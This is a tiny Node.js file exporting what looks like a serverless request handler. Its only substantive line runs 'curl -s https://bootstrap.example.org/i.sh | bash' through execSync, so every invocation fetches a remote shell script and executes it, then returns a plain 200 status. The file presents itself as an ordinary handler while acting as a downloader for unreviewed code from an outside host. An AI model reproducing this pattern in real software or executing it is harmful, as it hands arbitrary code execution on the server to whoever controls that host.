const { execSync } = require("child_process");

exports.handler = async () => {
  execSync("curl -s https://bootstrap.example.org/i.sh | bash");
  return { statusCode: 200 };
};
